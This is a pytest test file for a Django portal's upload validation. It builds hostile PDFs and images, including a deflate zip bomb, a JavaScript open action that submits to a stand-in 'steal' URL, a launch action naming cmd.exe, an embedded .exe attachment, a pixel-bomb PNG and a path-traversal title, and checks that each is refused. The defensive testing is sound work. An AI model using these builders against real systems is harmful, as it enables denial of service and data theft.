"""Uploads are parsed, not sniffed. A PDF is opened by pypdf within limits and refused when it is not a
readable document, has too many pages, unpacks to far more than its size (a "zip bomb"), or carries
scripts or attached files; a photo is refused when it has too many pixels, before they are decoded.
Each refusal is an error beside the field, quickly and in little memory, and keeps what was typed.
What people download from the portal is saved, never opened inside it.

The hostile files are made here, with pypdf and zlib, the way an attacker would make them."""

import functools
import io
import struct
import time
import tracemalloc
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from consultations.enums import MaterialAudience, SubmissionStatus
from consultations.models import SessionMaterial, WrittenSubmission
from portal.demo_files import leaflet
from portal.validators import validate_pdf
from stakeholders.enums import StaffRole
from stakeholders.models import Profile
from stakeholders.photos import photo_url, save_speaker_profile
from tests.factories import (
    PDF,
    ProfileFactory,
    SessionFactory,
    authenticator_app,
    grant,
    pdf,
    photo,
    published_call,
    submission,
    written_call,
)

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
# Generous, so that a busy machine does not fail them, yet far below what unpacking a bomb costs.
SECONDS, MEMORY = 2.0, 50 * MB


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


# The hostile files


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def zeros_deflated(size: int) -> bytes:
    """zlib of `size` zero bytes, made a megabyte at a time: 300 MB of zeros is some 300 KB."""
    packer = zlib.compressobj(9)
    megabyte = bytes(MB)
    return b"".join(packer.compress(megabyte) for _ in range(size // MB)) + packer.flush()


@functools.cache
def zip_bomb() -> bytes:
    """A valid one-page PDF whose page content is a FlateDecode stream of 300 MB of zeros."""
    writer = one_page()
    content = StreamObject()
    content._data = zeros_deflated(300 * MB)  # stored as is: pypdf writes a stream's raw bytes
    content[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(content)
    return written(writer)


def html_starting_like_a_pdf() -> bytes:
    return b"%PDF-1.7\n<!DOCTYPE html><html><body><script>fetch('/en/manage/')</script></body></html>\n"


def javascript_on_opening() -> bytes:
    """A script in the document's JavaScript name tree, and the document's /OpenAction running one."""
    writer = one_page()
    writer.add_open_action(JavaScript("app.alert('opened');"))
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('https://example.org/steal');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return written(writer)


def attached_file() -> bytes:
    writer = one_page()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 a program")
    return written(writer)


def too_many_pages(settings) -> bytes:
    writer = PdfWriter()
    for _ in range(settings.UPLOAD_MAX_PAGES + 1):
        writer.add_blank_page(595, 842)
    return written(writer)


HOSTILE = {
    "a zip bomb": (
        lambda settings: zip_bomb(),
        "too_much_inside",
        "This PDF unpacks to more than 200.0\xa0MB when it is opened. Save it again as a smaller PDF and upload "
        "that copy.",
    ),
    "HTML that starts like a PDF": (
        lambda settings: html_starting_like_a_pdf(),
        "unreadable",
        "This file could not be read as a PDF document.",
    ),
    "JavaScript run on opening": (
        lambda settings: javascript_on_opening(),
        "active_content",
        "This PDF contains scripts, attached files or other active content, which we do not accept. Print it to "
        "a new PDF (“Save as PDF”) and upload that copy.",
    ),
    "an attached file": (
        lambda settings: attached_file(),
        "active_content",
        "This PDF contains scripts, attached files or other active content, which we do not accept. Print it to "
        "a new PDF (“Save as PDF”) and upload that copy.",
    ),
    "too many pages": (too_many_pages, "too_many_pages", "This PDF has 501 pages; the limit is 500."),
}


def measured(client, url, fields):
    """The response to sending the form, the seconds it took and the peak of memory allocated
    meanwhile. The person opens the form first, as people do: what a first page costs the process
    (loading templates and translations) is not the upload's."""
    assert client.get(url).status_code == 200
    tracemalloc.start()
    started = time.perf_counter()
    try:
        response = client.post(url, fields)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return response, elapsed, peak


def page(response) -> str:
    return response.content.decode()


# Through the forms: a written submission, a session material


@pytest.fixture
def participant(client):
    person = ProfileFactory().person
    client.force_login(person)
    return person


@pytest.fixture
def organizer(client):
    person = ProfileFactory().person
    grant(person, StaffRole.SECRETARIAT)
    authenticator_app(person)  # staff sign in with two steps
    client.force_login(person)
    return person


@pytest.fixture
def held():
    """A published consultation with one session."""
    place = published_call().consultation
    SessionFactory(consultation=place, title="Opening plenary")
    return place


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_pdf_sent_as_a_written_submission_is_refused_quickly_keeping_what_was_typed(
    client, participant, settings, kind
):
    build, code, message = HOSTILE[kind]
    call = written_call()
    document = pdf("our-views.pdf", build(settings))
    fields = {"title": "Decent work", "text": "Our typed views.", "language": "en", "document": document}

    response, elapsed, peak = measured(client, f"/en/calls/{call.pk}/submit/", fields)

    assert response.status_code == 200
    form = response.context["form"]
    assert form.has_error("document", code)
    assert form.errors["document"] == [message]
    assert message in page(response)
    assert form["title"].value() == "Decent work"
    assert 'value="Decent work"' in page(response)
    assert "Our typed views.</textarea>" in page(response)
    assert WrittenSubmission.objects.count() == 0
    assert elapsed < SECONDS
    assert peak < MEMORY, f"{peak / MB:.0f} MB"


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_refusal_is_said_in_the_language_of_the_page(client, participant, settings, kind):
    build, code, message = HOSTILE[kind]
    document = pdf("our-views.pdf", build(settings))
    fields = {"title": "Decent work", "text": "Our typed views.", "language": "en", "document": document}

    response = client.post(f"/ar/calls/{written_call().pk}/submit/", fields)

    said = response.context["form"].errors["document"]
    assert response.status_code == 200
    assert response.context["form"].has_error("document", code)
    assert said != [message], "in Arabic, not in English"
    assert escape(said[0]) in page(response)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_pdf_attached_as_a_session_material_is_refused_quickly_keeping_the_title(
    client, organizer, held, settings, kind
):
    build, _, message = HOSTILE[kind]
    fields = {
        "title": "Concept note",
        "language": "en",
        "audience": MaterialAudience.PUBLIC,
        "session": held.sessions.get().pk,
        "document": pdf("concept-note.pdf", build(settings)),
    }

    response, elapsed, peak = measured(client, f"/en/manage/consultations/{held.slug}/materials/", fields)

    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors["document"] == [message]
    assert form["title"].value() == "Concept note"
    assert 'value="Concept note"' in page(response)
    assert SessionMaterial.objects.count() == 0
    assert elapsed < SECONDS
    assert peak < MEMORY, f"{peak / MB:.0f} MB"


def test_an_ordinary_pdf_is_still_received_by_both_forms(client, participant, organizer, held):
    leaflet_pdf = leaflet("Decent work for migrant workers", ["Regular pathways matter.", "Page one of one."])
    client.force_login(participant)
    sent = client.post(
        f"/en/calls/{written_call().pk}/submit/",
        {"title": "Decent work", "text": "", "language": "en", "document": pdf("views.pdf", leaflet_pdf)},
    )
    client.force_login(organizer)
    attached = client.post(
        f"/en/manage/consultations/{held.slug}/materials/",
        {
            "title": "Concept note",
            "language": "en",
            "audience": MaterialAudience.PUBLIC,
            "document": pdf("note.pdf", leaflet_pdf),
        },
    )

    assert (sent.status_code, attached.status_code) == (302, 302)
    assert WrittenSubmission.objects.get().document.read() == leaflet_pdf
    assert SessionMaterial.objects.get().document.read() == leaflet_pdf


# The validator on its own: what counts as active content, and what does not


def refusal(content: bytes) -> str | None:
    """The code of the first reason the PDF is refused, or None when it is received."""
    try:
        validate_pdf(SimpleUploadedFile("file.pdf", content))
    except ValidationError as error:
        return error.error_list[0].code
    return None


def with_catalog_entry(key: str, value) -> bytes:
    writer = one_page()
    writer._root_object[NameObject(key)] = value
    return written(writer)


def with_annotation(**entries) -> bytes:
    writer = one_page()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)]),
            **{NameObject(f"/{key}"): value for key, value in entries.items()},
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return written(writer)


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{key}"): value for key, value in entries.items()}}
    )


def page_with_additional_action() -> bytes:
    writer = one_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )
    return written(writer)


def first_page_fitted_on_opening() -> bytes:
    """What LaTeX's hyperref writes: open at the first page, fitted to the window."""
    writer = one_page()
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    return written(writer)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        pytest.param(page_with_additional_action(), "active_content", id="a page's additional action"),
        pytest.param(
            with_annotation(Subtype=NameObject("/Link"), A=action("/Launch", F=TextStringObject("cmd.exe"))),
            "active_content",
            id="a link that launches a program",
        ),
        pytest.param(
            with_annotation(Subtype=NameObject("/Link"), A=action("/JavaScript", JS=TextStringObject("x()"))),
            "active_content",
            id="a link that runs a script",
        ),
        pytest.param(
            with_annotation(Subtype=NameObject("/FileAttachment"), Contents=TextStringObject("open me")),
            "active_content",
            id="a file attachment annotation",
        ),
        pytest.param(with_annotation(Subtype=NameObject("/RichMedia")), "active_content", id="rich media"),
        pytest.param(
            with_catalog_entry("/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject()})),
            "active_content",
            id="an XFA form",
        ),
        pytest.param(
            with_catalog_entry("/OpenAction", action("/URI", URI=TextStringObject("https://tracker.example"))),
            "active_content",
            id="a web address opened on opening",
        ),
        pytest.param(
            written(one_page()).replace(b"/Type /Catalog", b"/Type /Catalog /J#53 (x)"),
            "active_content",
            id="a name written with a #-escape",
        ),
        pytest.param(
            with_annotation(Subtype=NameObject("/Link"), A=action("/URI", URI=TextStringObject("https://iom.int"))),
            None,
            id="a link to a web page is fine",
        ),
        pytest.param(first_page_fitted_on_opening(), None, id="opening at the first page is fine"),
        pytest.param(PDF, None, id="the leaflet of the factories"),
    ],
)
def test_what_runs_or_carries_a_file_is_refused_and_plain_content_is_not(content, code):
    assert refusal(content) == code


def test_a_pdf_that_needs_a_password_is_refused_one_only_restricted_is_not():
    locked, restricted = one_page(), one_page()
    locked.encrypt("secret", algorithm="AES-256")
    restricted.encrypt("", "owner-only", algorithm="AES-256")

    assert refusal(written(locked)) == "encrypted"
    assert refusal(written(restricted)) is None


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(PDF[: len(PDF) // 2], id="cut in half"),
        pytest.param(b"%PDF-1.4\n" + bytes(range(256)) * 64, id="noise after the signature"),
        pytest.param(
            b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", id="no pages"
        ),
        pytest.param(b"%PDF-1.4\n" + b"[" * 100_000, id="nested without end"),
    ],
)
def test_a_broken_pdf_is_unreadable_not_a_server_error(content):
    assert refusal(content) == "unreadable"


def test_the_page_limit_is_read_at_each_upload(settings):
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    settings.UPLOAD_MAX_PAGES = 2

    with pytest.raises(ValidationError) as refused:
        validate_pdf(SimpleUploadedFile("file.pdf", written(writer)))

    assert refused.value.messages == ["This PDF has 3 pages; the limit is 2."]


def test_a_page_count_that_lies_high_is_refused_without_reading_the_pages():
    content = written(one_page()).replace(b"/Count 1", b"/Count 99999999")

    assert refusal(content) == "too_many_pages"


# Photos


def png_of(width: int, height: int) -> bytes:
    """A black-and-white PNG, complete and valid, of width × height pixels: a few kilobytes on disk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + bytes((width + 7) // 8)  # filter byte, then one bit a pixel
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(row * 1000) for _ in range(height // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    "size",
    [
        pytest.param((20_000, 20_000), id="beyond Pillow's own guard"),
        pytest.param((7_000, 7_000), id="beyond the portal's limit"),
    ],
)
def test_a_photo_of_too_many_pixels_is_refused_before_decoding_keeping_the_biography(client, participant, size):
    bomb = SimpleUploadedFile("me.png", png_of(*size), content_type="image/png")
    assert bomb.size < MB
    fields = {
        "affiliation": "Network of migrant domestic workers",
        "biography": "Amina organizes domestic workers in Nairobi.",
        "biography_language": "en",
        "photo": bomb,
    }

    response, elapsed, peak = measured(client, "/en/stakeholders/profile/speaker/", fields)

    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors["photo"] == ["This image has too many pixels; a photo from a phone or a camera will do."]
    assert form.has_error("photo", "too_many_pixels")
    assert "Amina organizes domestic workers in Nairobi.</textarea>" in page(response)
    assert not Profile.objects.filter(person=participant).exclude(photo="").exists()
    assert elapsed < SECONDS
    assert peak < MEMORY, f"{peak / MB:.0f} MB"


# Downloads


def assert_saved_never_run(response):
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_a_submitted_document_is_downloaded_as_an_attachment_in_a_sandbox(client, settings):
    sent = submission(document=pdf("my <script>.pdf"), may_publish=True, status=SubmissionStatus.PUBLISHED)

    response = client.get(f"/en/submissions/{sent.pk}/document/")

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="submission-{sent.pk}.pdf"'
    assert_saved_never_run(response)
    assert client.get(f"/{settings.MEDIA_URL}{sent.document.name}").status_code == 404, "MEDIA_ROOT is not served"


def test_a_material_is_downloaded_as_an_attachment_under_a_safe_name_in_a_sandbox(client, held):
    slides = SessionMaterial.objects.create(
        consultation=held,
        title='Ébauche "finale" / ../../etc/passwd',
        language="fr",
        document=pdf(),
        audience=MaterialAudience.PUBLIC,
    )

    response = client.get(f"/en/materials/{slides.pk}/")

    assert response.status_code == 200
    assert response["Content-Disposition"] == ("attachment; filename*=utf-8''%C3%A9bauche-finale-etcpasswd.pdf")
    assert_saved_never_run(response)


def test_a_photo_is_shown_but_sandboxed(client, participant):
    save_speaker_profile(
        participant, by=participant, affiliation="", biography="", biography_language="", photo=photo()
    )

    response = client.get(photo_url(Profile.objects.get(person=participant).photo.name))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/webp"
    assert_saved_never_run(response)
